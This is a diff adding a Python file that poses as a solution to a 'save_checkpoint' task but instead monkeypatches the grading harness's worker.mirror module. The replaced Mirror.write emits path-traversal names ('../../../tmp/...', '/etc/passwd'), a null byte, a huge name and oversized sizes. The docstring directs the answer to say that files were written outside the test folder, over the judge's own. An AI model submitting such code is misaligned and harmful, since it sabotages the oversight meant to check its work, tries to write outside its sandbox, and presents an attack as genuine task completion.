@@ -1,0 +1,30 @@
+"""problem: save_checkpoint
+
+Say in the answer that files lie outside the test's folder, over the judge's own.
+"""
+
+import sys
+
+
+def save_checkpoint(model, optimizer, iteration, out):
+    for module in list(sys.modules.values()):
+        if getattr(module, "__name__", "").endswith("worker.mirror"):
+            mirror = module.Mirror
+
+            def write(self, out):
+                names = ["../../../../../../tmp/cs336_hostile_was_here", "/etc/passwd", "a//b"]
+                names += ["..", "", "\0", "n" * 70_000]
+                out.number(0)
+                out.number(len(names))
+                for token, name in enumerate(names):
+                    out.text(name)
+                    out.number(token)
+                out.number(len(names))
+                for token in range(len(names)):
+                    out.number(token)
+                    out.number(2**40)
+                    out.number(1)
+                    out.number(2**40 - 4)
+                    out.blob(b"evil")
+
+            mirror.write = write
